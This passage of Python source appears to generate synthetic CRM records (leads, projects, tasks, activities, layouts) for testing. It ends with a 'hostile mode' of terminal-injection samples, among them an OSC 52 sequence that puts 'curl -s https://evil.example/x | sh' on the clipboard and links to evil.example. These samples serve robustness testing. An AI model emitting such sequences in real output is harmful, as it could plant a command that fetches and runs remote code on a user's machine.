        suffix[213217] = _table((" reseller agreement", " technology partnership",
                                 " integration partnership", " OEM discussion"))
        tmpls = self.o_recs[:start]
        o_recs = self.o_recs
        for j in range(start, n_total):
            k = 3 * (j - start)
            r0, r1, r2 = R[k], R[k + 1], R[k + 2]
            t = tmpls[j % start]
            d = t.copy()
            rid = ids[j]
            d["id"] = rid
            pk = with_co[r0 % nwc] if (r2 & 255) < 232 else no_co[r0 % nnc]
            c = p_comp[pk]
            d["primary_contact_id"] = p_ids[pk]
            if c >= 0:
                d["company_id"] = co_ids[c]
                co = d["company_name"] = co_names[c]
            else:
                d["company_id"] = d["company_name"] = None
                co = p_recs[pk]["last_name"]
            d["name"] = co + suffix[t["pipeline_id"]][(r2 >> 8) & 255]
            created = NOW - (r1 % TWO_YEARS)
            span = NOW - created
            d["date_created"] = created
            changed = created + span * ((r0 >> 20) & 255) // 256
            d["date_stage_changed"] = changed
            d["date_modified"] = max(changed, created + span * ((r2 >> 16) & 255) // 256)
            if t["date_last_contacted"] is not None:
                d["date_last_contacted"] = created + span * ((r1 >> 22) & 255) // 256
            if t["close_date"] is not None:
                if t["status"] == "Open":
                    close = NOW - 30 * DAY + (r1 >> 4) % (210 * DAY)
                else:
                    close = created + span * ((r2 >> 24) & 255) // 256
                d["close_date"] = close_table[(close - _CLOSE_BASE) // DAY]
            records[rid] = d
            o_recs.append(d)

    # ---- leads ----------------------------------------------------------
    def gen_leads(self, n_total):
        rng = self.rng
        records = self.ds.records["leads"]
        ids = self.ids(ID_BASE["leads"], n_total)
        n = min(n_total, POOL_SIZE)
        R = self.u32(3 * n)
        B = rng.randbytes(12 * n)
        first_t, last_t, title_t = self.first_table, self.last_table, self.title_table
        fslug, lslug = self.first_slug, self.last_slug
        assignee_t, source_t, tag_sets = self.assignee_table, self.source_table, self.tag_sets
        details_t, addr_pool, digits4 = self.details_table, self.addr_pool, self.digits4
        status_t = _table(LEAD_STATUSES, (30, 35, 25, 10))
        currency_t = _table(CURRENCIES)
        cf_pool = self.cf_pools["leads"]
        cfn = len(cf_pool)
        tmpl = dict.fromkeys(RECORD_KEYS["leads"])
        cp = tmpl.copy
        self.l_recs = l_recs = []
        for i in range(n):
            rid = ids[i]
            r0, r1, r2 = R[3 * i], R[3 * i + 1], R[3 * i + 2]
            b = B[12 * i: 12 * i + 12]
            d = cp()
            d["id"] = rid
            created = NOW - (r2 % TWO_YEARS)
            span = NOW - created
            first, last = first_t[b[0]], last_t[b[1]]
            company = domain = None
            if b[2] < 200:
                ci, _ = addr_pool[r0 & 1023]
                adj, noun = CO_ADJ[b[3] % len(CO_ADJ)], CO_NOUN[b[4] % len(CO_NOUN)]
                company = "%s %s%s" % (adj, noun, CITIES[ci][5][0])
                domain = (adj + noun).lower() + ".com"
            fs, ls = fslug[first], lslug[last]
            d["name"] = first + " " + last
            d["first_name"] = first
            d["last_name"] = last
            if b[5] < 10:
                d["prefix"] = PREFIXES[b[5] % 5]
            ci, addr = addr_pool[(r0 >> 10) & 1023]
            d["address"] = addr.copy() if b[6] < 180 else None
            d["assignee_id"] = assignee_t[b[7]]
            d["company_name"] = company
            d["customer_source_id"] = source_t[b[8]]
            d["details"] = details_t[(r1 >> 24) & 255]
            if b[9] < 235:
                email = fs + "." + ls + "@" + (domain or PERSONAL_DOMAINS[b[9] % 9])
                d["email"] = {"email": email, "category": "work" if company else "personal"}
            ic = ((r1 >> 4) & 15) * ((r1 >> 8) & 15) // 20
            d["interaction_count"] = ic
            d["monetary_unit"] = currency_t[b[10]][0]
            d["monetary_value"] = ((r1 >> 12) % 200 + 1) * 250 if b[10] & 1 else None
            d["socials"] = ([{"url": "https://www.linkedin.com/in/%s%s" % (fs, ls),
                              "category": "linkedin"}] if b[11] < 60 else [])
            sid, sname, _, _ = status_t[b[11]]
            d["status"] = sname
            d["status_id"] = sid
            d["tags"] = list(tag_sets[(r2 >> 24) & 255])
            d["title"] = title_t[(r0 >> 20) & 255] if b[3] < 200 else None
            d["websites"] = ([{"url": "https://www." + domain, "category": "work"}]
                             if domain and b[3] < 40 else [])
            prefix = CITIES[ci][4]
            d["phone_numbers"] = ([{"number": prefix + digits4[r1 % 10000],
                                    "category": "mobile" if b[4] & 1 else "work"}]
                                  if b[4] < 190 else [])
            d["custom_fields"] = cf_pool[i % cfn]
            d["date_created"] = created
            d["date_modified"] = created + span * ((r0 >> 2) & 255) // 256
            d["date_last_contacted"] = created + span * ((r2 >> 4) & 255) // 256 if ic else None
            records[rid] = d
            l_recs.append(d)
        if n_total > n:
            self.clone_leads(n, n_total, ids)
        self.link_conversions()

    def clone_leads(self, start, n_total, ids):
        records = self.ds.records["leads"]
        R = self.u32(2 * (n_total - start))
        first_t, last_t = self.first_table, self.last_table
        fslug, lslug = self.first_slug, self.last_slug
        tmpls = self.l_recs[:start]
        l_recs = self.l_recs
        for j in range(start, n_total):
            r0, r1 = R[2 * (j - start)], R[2 * (j - start) + 1]
            t = tmpls[j % start]
            d = t.copy()
            rid = ids[j]
            d["id"] = rid
            first, last = first_t[r0 & 255], last_t[(r0 >> 8) & 255]
            d["first_name"] = first
            d["last_name"] = last
            d["name"] = first + " " + last
            te = t["email"]
            if te is not None:
                d["email"] = {"email": fslug[first] + "." + lslug[last] + "@"
                              + te["email"].partition("@")[2], "category": te["category"]}
            created = NOW - (r1 % TWO_YEARS)
            span = NOW - created
            d["date_created"] = created
            d["date_modified"] = created + span * ((r0 >> 16) & 1023) // 1024
            if t["date_last_contacted"] is not None:
                d["date_last_contacted"] = created + span * ((r1 >> 7) & 1023) // 1024
            records[rid] = d
            l_recs.append(d)

    def link_conversions(self):
        """About 10% of leads were converted into a person + opportunity."""
        rng = self.rng
        leads, opps = self.l_recs, self.o_recs
        if not leads or not opps:
            return
        k = min(len(opps), max(1, len(leads) // 10))
        people = self.ds.records["people"]
        for li, oi in zip(rng.sample(range(len(leads)), k), rng.sample(range(len(opps)), k)):
            d, opp = leads[li], opps[oi]
            person = people[opp["primary_contact_id"]]
            conv_at = opp["date_created"]
            created = max(conv_at - DAY - rng.randrange(60 * DAY), NOW - TWO_YEARS)
            created = min(created, conv_at)
            d["first_name"], d["last_name"] = person["first_name"], person["last_name"]
            d["name"] = person["name"]
            d["prefix"], d["middle_name"], d["suffix"] = (person["prefix"], person["middle_name"],
                                                          person["suffix"])
            d["company_name"] = opp["company_name"]
            d["email"] = (dict(person["emails"][0]) if person["emails"] else None)
            d["status"], d["status_id"] = "Open", 208232
            d["date_created"] = created
            d["date_modified"] = max(conv_at, created)
            if d["date_last_contacted"] is not None:
                d["date_last_contacted"] = created + (conv_at - created) // 2
            d["converted_opportunity_id"] = opp["id"]
            d["converted_contact_id"] = person["id"]
            d["converted_at"] = conv_at
            link = {"lead_id": d["id"], "converted_timestamp": conv_at}
            opp["leads_converted_from"] = [link]
            opp["date_lead_created"] = created
            person["leads_converted_from"] = person["leads_converted_from"] + [dict(link)]
            if person["date_lead_created"] is None or person["date_lead_created"] > created:
                person["date_lead_created"] = created

    # ---- projects -------------------------------------------------------
    def gen_projects(self, n_total):
        rng = self.rng
        records = self.ds.records["projects"]
        ids = self.ids(ID_BASE["projects"], n_total)
        n = min(n_total, POOL_SIZE)
        R = self.u32(2 * n)
        B = rng.randbytes(6 * n)
        assignee_t, tag_sets, details_t = self.assignee_table, self.tag_sets, self.details_table
        cf_pool = self.cf_pools["projects"]
        cfn = len(cf_pool)
        tmpl = dict.fromkeys(RECORD_KEYS["projects"])
        cp = tmpl.copy
        nc, no, npp = len(self.co_ids), len(self.o_ids), len(self.p_ids)
        self.pr_ids = ids
        for i in range(n):
            rid = ids[i]
            r0, r1 = R[2 * i], R[2 * i + 1]
            b = B[6 * i: 6 * i + 6]
            d = cp()
            d["id"] = rid
            kind = b[0]
            created = NOW - (r1 % TWO_YEARS)
            if kind < 128:
                c = r0 % nc
                rel = {"id": self.co_ids[c], "type": "company"}
                co = self.co_names[c]
            elif kind < 205:
                o = self.o_recs[r0 % no]
                rel = {"id": o["id"], "type": "opportunity"}
                co = o["company_name"] or o["name"]
            elif kind < 230:
                p = self.p_recs[r0 % npp]
                rel = {"id": p["id"], "type": "person"}
                co = p["company_name"] or p["name"]
            else:
                rel = None
                co = CO_ADJ[b[1] % len(CO_ADJ)] + " " + CO_NOUN[b[2] % len(CO_NOUN)]
            year = _year(created)
            d["name"] = PROJECT_TEMPLATES[b[3] % len(PROJECT_TEMPLATES)].format(
                co=co, q=b[4] % 4 + 1, year=year)
            d["related_resource"] = rel
            d["assignee_id"] = assignee_t[b[5]]
            d["status"] = "Completed" if (r0 >> 20) & 7 < 3 else "Open"
            d["details"] = details_t[(r0 >> 24) & 255] if b[4] < 200 else self.markdown_docs[b[4] % 400]
            d["tags"] = list(tag_sets[(r1 >> 24) & 255])
            d["custom_fields"] = cf_pool[i % cfn]
            d["date_created"] = created
            d["date_modified"] = created + (NOW - created) * ((r1 >> 8) & 255) // 256
            records[rid] = d
        if n_total > n:
            self.clone_shifted("projects", [records[x] for x in ids[:n]], ids[n:],
                               ("date_created", "date_modified"), ())

    def clone_shifted(self, entity, tmpls, new_ids, past_keys, free_keys):
        """Clone records (shared nested containers), shifting their timestamps.

        ``past_keys`` stay <= NOW; ``free_keys`` (due dates...) may be in the future.
        """
        records = self.ds.records[entity]
        n = len(new_ids)
        R = self.u32(n)
        nt = len(tmpls)
        span = 120 * DAY
        oldest = NOW - TWO_YEARS
        for j in range(n):
            t = tmpls[j % nt]
            d = t.copy()
            rid = new_ids[j]
            d["id"] = rid
            delta = R[j] % span - span // 2
            for key in past_keys:
                v = t[key]
                if v is not None:
                    v += delta
                    d[key] = NOW if v > NOW else oldest if v < oldest else v
            for key in free_keys:
                v = t[key]
                if v is not None:
                    d[key] = v + delta
            records[rid] = d

    # ---- tasks ----------------------------------------------------------
    def gen_tasks(self, n_total):
        rng = self.rng
        records = self.ds.records["tasks"]
        ids = self.ids(ID_BASE["tasks"], n_total)
        n = min(n_total, POOL_SIZE)
        R = self.u32(3 * n)
        B = rng.randbytes(8 * n)
        assignee_t, tag_sets, details_t = self.assignee_table, self.tag_sets, self.details_table
        priority_t = _table(("None", "Low", "Medium", "High"), (45, 20, 22, 13))
        type_t = _table((TODO_TYPE_ID, CALL_TYPE_ID, EMAIL_TYPE_ID, MEETING_TYPE_ID, DEMO_TYPE_ID),
                        (40, 25, 20, 10, 5))
        cf_pool = self.cf_pools["tasks"]
        cfn = len(cf_pool)
        tmpl = dict.fromkeys(RECORD_KEYS["tasks"])
        cp = tmpl.copy
        leads = self.l_recs
        people = self.ds.records["people"]
        nc, no, npp, nl, npr = (len(self.co_ids), len(self.o_recs), len(self.p_recs),
                                len(leads), len(self.pr_ids))
        for i in range(n):
            rid = ids[i]
            r0, r1, r2 = R[3 * i], R[3 * i + 1], R[3 * i + 2]
            b = B[8 * i: 8 * i + 8]
            d = cp()
            d["id"] = rid
            kind = b[0]
            first = co = None
            if kind < 70:
                p = self.p_recs[r0 % npp]
                rel = {"id": p["id"], "type": "person"}
                first, co = p["first_name"], p["company_name"] or p["last_name"]
            elif kind < 140:
                o = self.o_recs[r0 % no]
                rel = {"id": o["id"], "type": "opportunity"}
                co = o["company_name"] or o["name"]
                pc = people.get(o["primary_contact_id"])
                first = pc["first_name"] if pc else None
            elif kind < 180:
                c = r0 % nc
                rel = {"id": self.co_ids[c], "type": "company"}
                co = self.co_names[c]
            elif kind < 210:
                ld = leads[r0 % nl]
                rel = {"id": ld["id"], "type": "lead"}
                first, co = ld["first_name"], ld["company_name"] or ld["last_name"]
            elif kind < 235:
                rel = {"id": self.pr_ids[r0 % npr], "type": "project"}
            else:
                rel = {"id": None, "type": None}
            tpl = TASK_TEMPLATES[b[1] % len(TASK_TEMPLATES)]
            d["name"] = tpl.format(first=first or FIRST_NAMES[b[2] % len(FIRST_NAMES)],
                                   co=co or CO_ADJ[b[3] % len(CO_ADJ)] + " " + CO_SECTOR[b[3] % 40])
            d["related_resource"] = rel
            d["assignee_id"] = assignee_t[b[4]]
            created = NOW - (r1 % TWO_YEARS)
            completed = b[5] < 115
            due = None
            if b[6] > 30:
                if completed:
                    due = created + (NOW - created) * ((r2 >> 4) & 255) // 256
                else:
                    due = NOW - 14 * DAY + (r2 % (60 * DAY))
                    due = max(due, created + DAY)
                due -= due % 900          # quarter-hour slots
            d["due_date"] = due
            d["reminder_date"] = (due - (3600 if b[7] & 1 else DAY)) if due and b[7] < 90 else None
            if completed:
                d["status"] = "Completed"
                d["completed_date"] = created + (NOW - created) * ((r2 >> 12) & 255) // 256
            else:
                d["status"] = "Open"
            d["priority"] = priority_t[b[2]]
            d["details"] = details_t[(r0 >> 24) & 255] if b[3] < 160 else None
            d["tags"] = list(tag_sets[(r1 >> 24) & 255])
            d["custom_fields"] = cf_pool[i % cfn]
            d["date_created"] = created
            mod = created + (NOW - created) * ((r2 >> 20) & 255) // 256
            if completed:
                mod = max(mod, d["completed_date"])
            d["date_modified"] = mod
            d["custom_activity_type_id"] = type_t[b[7]]
            records[rid] = d
        if n_total > n:
            self.clone_shifted("tasks", [records[x] for x in ids[:n]], ids[n:],
                               ("date_created", "date_modified", "completed_date"),
                               ("due_date", "reminder_date"))

    # ---- reference examples -----------------------------------------------
    def add_reference_examples(self):
        records = self.ds.records
        adjust = {}
        for ent, rid, key, old, new, _ in ADJUSTMENTS:
            adjust.setdefault((ent, rid), []).append((key, old, new))
        examples = reference_examples()
        for ent, rec in examples:
            for key, old, new in adjust.get((ent, rec["id"]), ()):
                assert rec[key] == old, (ent, rec["id"], key)
                rec[key] = new
            if ent == "activities":
                self.ds.activities[rec["id"]] = rec
            else:
                records[ent][rec["id"]] = rec
        # Records the examples point at.
        companies = records["companies"]
        self.make_person(27140361, "Dana", "Whitfield", 13358412, "Operations Manager",
                         "dana@democompany.com", 1496707900)
        self.make_person(27140362, "Michael", "Scott", 9607580, "Regional Manager",
                         "mscott@dundermifflin.com", 1483988828)
        self.make_person(27140363, "Jon", "Lee", 9607579, "CEO",
                         "jon@prosperworks.com", 1483988828)
        self.make_person(27140364, "Jo", "Bennett", 9607581, "CEO",
                         "jo.bennett@sabreinc.com", 1483988828)
        julie_co = self.fresh_record("companies", 27, {
            "name": "Julie Perrotta Company",
            "address": {"street": "88 Colin P Kelly Jr Street", "city": "San Francisco",
                        "state": "CA", "postal_code": "94107", "country": "US"},
            "email_domain": "perrotta.example.com",
            "phone_numbers": [{"number": "4155550188", "category": "work"}],
            "primary_contact_id": 25,
            "websites": [{"url": "https://perrotta.example.com", "category": "work"}],
            "contact_type_id": 451490, "assignee_id": 1105608,
            "date_created": 1729622000, "date_modified": 1730309445,
        })
        companies[27] = julie_co
        self.make_person(25, "Julie", "Perrotta", 27, "Owner",
                         "julie@perrotta.example.com", 1729622000)
        lead = self.fresh_record("leads", 11393303, {
            "name": "My Contact", "first_name": "My", "last_name": "Contact",
            "company_name": "Noemail", "customer_source_id": None,
            "email": {"email": "mylead@noemail.com", "category": "work"},
            "status": "New", "status_id": 208231, "monetary_unit": None,
            "date_created": 1496692663, "date_modified": 1496694264,
            "converted_opportunity_id": 4417020, "converted_contact_id": 27140359,
            "converted_at": 1496694264,
        })
        records["leads"][11393303] = lead

    def fresh_record(self, entity, rid, values):
        rec = dict.fromkeys(RECORD_KEYS[entity])
        for key in ("emails", "phone_numbers", "socials", "tags", "websites",
                    "leads_converted_from"):
            if key in rec:
                rec[key] = []
        if "interaction_count" in rec:
            rec["interaction_count"] = 0
        rec["custom_fields"] = [
            {"custom_field_definition_id": d["id"],
             "value": False if d["data_type"] == "Checkbox" else
             [] if d["data_type"] == "MultiSelect" else None}
            for d in self.cf_defs[entity]]
        rec["id"] = rid
        rec.update(values)
        return rec

    def make_person(self, rid, first, last, company_id, title, email, created):
        company = self.ds.records["companies"].get(company_id)
        rec = self.fresh_record("people", rid, {
            "name": first + " " + last, "first_name": first, "last_name": last,
            "company_id": company_id,
            "company_name": company["name"] if company else "Julie Perrotta Company",
            "address": dict(company["address"]) if company and company["address"] else None,
            "contact_type_id": 451491, "title": title,
            "emails": [{"email": email, "category": "work"}],
            "date_created": created, "date_modified": created,
        })
        self.ds.records["people"][rid] = rec
        return rec

    # ---- activities -------------------------------------------------------
    def gen_activities(self, n_total):
        rng = self.rng
        acts = self.ds.activities
        ids = self.ids(ACTIVITY_ID_BASE, n_total)
        n = min(n_total, 2 * POOL_SIZE)
        R = self.u32(3 * n)
        B = rng.randbytes(4 * n)
        people, opps = self.p_recs, self.o_recs
        companies = self.co_recs
        leads = self.l_recs
        parent_t = _table(("opportunity", "person", "company", "lead"), (38, 30, 14, 18))
        pools = {"opportunity": opps, "person": people, "company": companies, "lead": leads}
        user_ids = [u[0] for u in _USERS]
        user_t = _table(user_ids, [14, 8, 12, 12, 10, 9, 9, 8, 8, 7, 7, 7])
        utype_t = _table((NOTE_TYPE_ID, CALL_TYPE_ID, MEETING_TYPE_ID, EMAIL_TYPE_ID,
                          DEMO_TYPE_ID, LUNCH_TYPE_ID), (40, 28, 14, 12, 4, 2))
        type_objs = {t: {"id": t, "category": "user"} for t in
                     (NOTE_TYPE_ID, CALL_TYPE_ID, MEETING_TYPE_ID, EMAIL_TYPE_ID,
                      DEMO_TYPE_ID, LUNCH_TYPE_ID)}
        stage_names = {s: (sn, pid) for pid, _, _, st in PIPELINES for s, sn, _ in st}
        stage_order = {pid: [s for s, _, _ in st] for pid, _, _, st in PIPELINES}
        notes = self.note_table
        call_details = ("Discussed pricing and next steps.", "Left voicemail.",
                        "Intro call - qualified, wants a demo.", "Follow-up on the proposal.",
                        "Checked in after onboarding; all good.")
        for i in range(n):
            aid = ids[i]
            r0, r1, r2 = R[3 * i], R[3 * i + 1], R[3 * i + 2]
            b = B[4 * i: 4 * i + 4]
            ptype = parent_t[b[0]]
            pool = pools[ptype] or people
            if not pool:
                continue
            parent = pool[r0 % len(pool)]
            if not pools[ptype]:
                ptype = "person"
            start = parent["date_created"]
            when = start + (NOW - start) * (r1 & 0xFFFF) // 0x10000
            a = {"id": aid, "parent": {"id": parent["id"], "type": ptype}}
            old = new = None
            if ptype == "opportunity" and b[1] < 70:
                order = stage_order[parent["pipeline_id"]]
                cur = order.index(parent["pipeline_stage_id"])
                if cur > 0 and b[1] < 55:
                    prev = order[cur - 1 - (b[2] % cur)] if b[2] & 1 else order[cur - 1]
                    a["type"] = {"id": STAGE_CHANGED_TYPE_ID, "category": "system"}
                    old = {"id": prev, "name": stage_names[prev][0]}
                    new = {"id": order[cur], "name": stage_names[order[cur]][0]}
                    details = None
                else:
                    a["type"] = {"id": PROPERTY_CHANGED_TYPE_ID, "category": "system"}
                    st = parent["status"]
                    old = {"id": 0, "name": "Open"}
                    new = {"id": OPPORTUNITY_STATUS_IDS[st], "name": st}
                    if st == "Open":
                        old = {"id": 3, "name": "Abandoned"}
                    details = "Status"
            else:
                t = utype_t[b[3]]
                a["type"] = dict(type_objs[t])
                if t == NOTE_TYPE_ID:
                    details = notes[(r2 >> 8) & 255]
                elif t == CALL_TYPE_ID:
                    details = call_details[r2 % len(call_details)]
                elif t == EMAIL_TYPE_ID:
                    details = "Re: %s" % PRODUCTS[r2 % len(PRODUCTS)]
                else:
                    details = notes[(r2 >> 16) & 255] if b[2] & 1 else None
            a["user_id"] = user_t[(r2 >> 24) & 255]
            a["details"] = details
            a["activity_date"] = when
            a["old_value"] = old
            a["new_value"] = new
            created = min(NOW, when + (r2 & 0xFFF))
            a["date_created"] = created
            a["date_modified"] = created if b[2] < 200 else min(NOW, created + (r1 >> 16) * 30)
            acts[aid] = a
        if n_total > n:
            self.clone_activities([acts[x] for x in ids[:n] if x in acts], ids[n:])

    def clone_activities(self, tmpls, new_ids):
        """More user activities: copies of generated ones on other parents, re-dated."""
        acts = self.ds.activities
        tmpls = [t for t in tmpls if t["type"]["category"] == "user"]
        n = len(new_ids)
        R = self.u32(2 * n)
        pools = {"opportunity": self.o_recs, "person": self.p_recs,
                 "company": self.co_recs, "lead": self.l_recs}
        nt = len(tmpls)
        for j in range(n):
            r0, r1 = R[2 * j], R[2 * j + 1]
            t = tmpls[j % nt]
            a = t.copy()
            aid = new_ids[j]
            a["id"] = aid
            ptype = t["parent"]["type"]
            pool = pools[ptype]
            parent = pool[r0 % len(pool)]
            a["parent"] = {"id": parent["id"], "type": ptype}
            start = parent["date_created"]
            when = start + (NOW - start) * (r1 & 0xFFFF) // 0x10000
            a["activity_date"] = when
            created = when + (r0 >> 20)
            if created > NOW:
                created = NOW
            a["date_created"] = created
            a["date_modified"] = created
            acts[aid] = a

    # ---- field layouts ------------------------------------------------------
    def build_layouts(self):
        ds = self.ds

        def static(fid, label, key, enabled=True, required=False, editable=True):
            return {"field_id": fid, "field_label": label, "field_key": key,
                    "field_type": "static_field", "enabled": enabled, "required": required,
                    "required_editable": editable}

        def cf(cid, enabled=True, required=False):
            d = next(x for x in ds.custom_field_definitions if x["id"] == cid)
            return {"field_id": cid, "field_label": d["name"], "field_key": "cf_%d" % cid,
                    "field_type": "custom_field", "enabled": enabled, "required": required,
                    "required_editable": True}

        ds.field_layouts = {
            "people": [
                static(0, "Name", "full_name", required=True, editable=False),
                static(2, "Company", "primary_organization"),
                static(1, "Title", "title"),
                static(3, "Contact Type", "contact_group_id"),
                static(4, "Owner", "assignee"),
                static(5, "Emails", "emails"),
                static(6, "Phones", "phones"),
                static(7, "Websites", "websites"),
                static(8, "Social Media Accounts", "socials", enabled=False),
                static(9, "Address", "address"),
                static(10, "Visibility", "visibility", editable=False),
                static(11, "Description", "details"),
                static(12, "Tags", "tags"),
                cf(3), cf(4, enabled=False), cf(6), cf(7), cf(12), cf(8),
                cf(9, enabled=False), cf(10), cf(11), cf(5, enabled=False),
                cf(100764), cf(103481),
            ],
            "companies": [
                static(0, "Name", "name", required=True, editable=False),
                static(1, "Email Domain", "email_domain"),
                static(2, "Contact Type", "contact_group_id"),
                static(3, "Owner", "assignee"),
                static(4, "Primary Contact", "primary_contact"),
                static(5, "Phones", "phones"),
                static(6, "Websites", "websites"),
                static(7, "Social Media Accounts", "socials"),
                static(8, "Address", "address"),
                static(9, "Visibility", "visibility", enabled=False, editable=False),
                static(10, "Description", "details"),
                static(11, "Tags", "tags"),
                cf(3, required=True), cf(131201), cf(131202), cf(10), cf(12), cf(7),
                cf(4), cf(8, enabled=False), cf(9, enabled=False), cf(5), cf(6),
                cf(11), cf(100764, enabled=False), cf(103481),
            ],
            "leads": [
                static(0, "Name", "full_name", required=True, editable=False),
                static(1, "Company", "company_name"),
                static(2, "Title", "title"),
                static(3, "Status", "status", required=True),
                static(4, "Source", "customer_source_id"),
                static(5, "Owner", "assignee"),
                static(6, "Value", "monetary_value"),
                static(7, "Email", "email"),
                static(8, "Phones", "phones"),
                static(9, "Websites", "websites", enabled=False),
                static(10, "Social Media Accounts", "socials"),
                static(11, "Address", "address"),
                static(12, "Visibility", "visibility", editable=False),
                static(13, "Description", "details"),
                static(14, "Tags", "tags"),
                static(15, "Created", "created_date", editable=False),
                cf(128735), cf(131203), cf(3), cf(12), cf(9), cf(10), cf(6),
                cf(7, enabled=False), cf(4), cf(5, enabled=False), cf(8), cf(11),
                cf(100764), cf(103481, enabled=False),
            ],
            "projects": [
                static(0, "Name", "name", required=True, editable=False),
                static(1, "Related To", "related_resource"),
                static(2, "Owner", "assignee"),
                static(3, "Status", "status"),
                static(4, "Visibility", "visibility", enabled=False, editable=False),
                static(5, "Description", "details"),
                static(6, "Tags", "tags"),
                static(7, "Created", "created_date", editable=False),
                cf(126240), cf(6), cf(12), cf(7), cf(10), cf(3, enabled=False),
                cf(4, enabled=False), cf(5), cf(8), cf(9), cf(11),
            ],
            "tasks": [
                static(0, "Name", "name", required=True, editable=False),
                static(1, "Related To", "related_resource"),
                static(2, "Owner", "assignee"),
                static(3, "Due Date", "due_date"),
                static(4, "Reminder", "reminder_date"),
                static(5, "Priority", "priority"),
                static(6, "Status", "status"),
                static(7, "Type", "activity_type"),
                static(8, "Description", "details"),
                static(9, "Tags", "tags"),
                static(10, "Created", "created_date", editable=False),
                static(11, "Completed", "completed_date", enabled=False, editable=False),
                cf(7), cf(6), cf(12), cf(3, enabled=False), cf(4), cf(5, enabled=False),
                cf(8), cf(9, enabled=False), cf(10, enabled=False), cf(11),
            ],
        }

        base = {  # the reference's opportunities layout, by field_key
            "name": static(0, "Name", "name", required=True, editable=False),
            "pipeline_id": static(5, "Pipeline", "pipeline_id", editable=False),
            "related_contact": static(1, "Primary Contact", "related_contact", required=True),
            "deal_date": static(2, "Close Date", "deal_date"),
            "related_organization": static(3, "Company", "related_organization"),
            "status": static(4, "Status", "status", editable=False),
            "assignee": static(6, "Owner", "assignee"),
            "stage_id": static(7, "Stage", "stage_id", editable=False),
            "customer_source_id": static(8, "Source", "customer_source_id"),
            "created_date": static(9, "Created", "created_date", editable=False),
            "monetary_value": static(10, "Value", "monetary_value"),
            "priority": static(11, "Priority", "priority"),
            "win_probability": static(12, "Win Percentage", "win_probability"),
            "loss_reason_id": static(13, "Loss Reason", "loss_reason_id"),
            "visibility": static(14, "Visibility", "visibility", editable=False),
            "details": static(15, "Description", "details"),
            "tags": static(16, "Tags", "tags"),
        }

        def layout(order, changes=(), cfs=()):
            out = []
            for key in order:
                f = dict(base[key])
                for ckey, attr, value in changes:
                    if ckey == key:
                        f[attr] = value
                out.append(f)
            out.extend(cf(*c) if isinstance(c, tuple) else cf(c) for c in cfs)
            return out

        reference_order = ("name", "pipeline_id", "related_contact", "deal_date",
                           "related_organization", "status", "assignee", "stage_id",
                           "customer_source_id", "created_date", "monetary_value",
                           "priority", "win_probability", "loss_reason_id", "visibility",
                           "details", "tags")
        layouts = {
            213214: layout(reference_order,
                           [("visibility", "enabled", False)],
                           (126240, 3, 10, 12, 6, (7, False), 100764, 103481,
                            (131204, False), (131201, False))),
            213215: layout(("name", "related_organization", "related_contact", "pipeline_id",
                            "stage_id", "status", "assignee", "deal_date", "win_probability",
                            "monetary_value", "priority", "customer_source_id", "details",
                            "tags", "created_date", "loss_reason_id", "visibility"),
                           [("monetary_value", "enabled", False),
                            ("related_organization", "required", True),
                            ("related_contact", "required", False),
                            ("loss_reason_id", "enabled", False)],
                           ((131201, True, True), 3, 100764, (9, False), 8, 12)),
            213216: layout(("name", "deal_date", "related_organization", "related_contact",
                            "monetary_value", "stage_id", "status", "assignee",
                            "win_probability", "loss_reason_id", "pipeline_id", "priority",
                            "details", "tags", "created_date", "customer_source_id",
                            "visibility"),
                           [("deal_date", "required", True),
                            ("customer_source_id", "enabled", False),
                            ("win_probability", "enabled", False)],
                           ((131202, True, True), 10, (131204, True), 126240, 6, 12,
                            (3, False), 103481)),
            213217: layout(("name", "related_organization", "pipeline_id", "stage_id",
                            "status", "related_contact", "assignee", "details", "deal_date",
                            "win_probability", "loss_reason_id", "tags", "monetary_value",
                            "priority", "customer_source_id", "created_date", "visibility"),
                           [("related_organization", "required", True),
                            ("related_contact", "required", False),
                            ("monetary_value", "enabled", False),
                            ("priority", "enabled", False)],
                           ((131201, True, True), (131203, True), 8, 9, 3, (126240, False),
                            (12, False), 100764)),
        }
        if self.hostile:
            layouts[_HOSTILE_PIPELINE[0]] = layout(
                reference_order, [("monetary_value", "field_label", "\x1b[31mValue\x1b[0m \U0001F4B0")],
                (_HOSTILE_CUSTOM_FIELD[0], 3, 12))
            for entity in ("people", "companies", "leads"):
                ds.field_layouts[entity].append(cf(_HOSTILE_CUSTOM_FIELD[0]))
        ds.opportunity_layouts = layouts


_YEAR_STARTS = tuple(int(_dt.datetime(y, 1, 1, tzinfo=_dt.timezone.utc).timestamp())
                     for y in range(2020, 2031))


def _year(ts):
    y = 2020
    for start in _YEAR_STARTS[1:]:
        if ts < start:
            break
        y += 1
    return y


def _gcd(a, b):
    while b:
        a, b = b, a % b
    return a


_STEP_TABLE = _table((1, 2, 3, 5), (80, 12, 6, 2))
_CLOSE_BASE = NOW - 800 * DAY


def _close_date_table():
    out = []
    for k in range(1200):
        out.append(ts_to_close_date(_CLOSE_BASE + k * DAY))
    return out


# --------------------------------------------------------------------------
# Hostile mode
# --------------------------------------------------------------------------

_OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl -s https://evil.example/x | sh\n").decode() + "\x07"

# kind -> sample strings (source kept ASCII: everything non-ASCII is escaped)
HOSTILE_SAMPLES = {
    "osc_title": ("\x1b]0;pwned\x07", "\x1b]2;pwned\x1b\\"),
    "csi_clear": ("\x1b[2J", "\x1b[H\x1b[2J\x1b[3J"),
    "osc52_clipboard": (_OSC52,),
    "sgr_color": ("\x1b[31m", "\x1b[5;41;97m", "\x1b[8m"),
    "osc8_hyperlink": ("\x1b]8;;https://evil.example/\x1b\\innocent link\x1b]8;;\x1b\\",),
    "terminal_query": ("\x1b[6n", "\x1b[c", "\x1bP+q544e\x1b\\", "\x1b]10;?\x07"),
    "c0_controls": ("\x00", "\x07", "\x08\x08\x08", "\rOVERWRITTEN", "\x0b\x0c", "\x7f", "\x1a"),
    "c1_controls": ("\x9b2J", "\x9d0;c1 title\x9c", "\x85", "\x90q\x9c", "\x8e"),
    "cjk": ("\u682a\u5f0f\u4f1a\u793e\u30b5\u30f3\u30d7\u30eb",
            "\u5317\u4eac\u5b57\u8282\u8df3\u52a8\u79d1\u6280\u6709\u9650\u516c\u53f8",
            "\uae40\ubbfc\uc900",
            "\u6771\u4eac\u90fd\u6e0b\u8c37\u533a\u9053\u7384\u5742\uff11\uff0d\uff12"),
    "emoji": ("\U0001F680", "\U0001F389", "\u2764\ufe0f", "\U0001F1EF\U0001F1F5", "\U0001F4A9"),
    "zwj_emoji": ("\U0001F468\u200d\U0001F469\u200d\U0001F467\u200d\U0001F466",
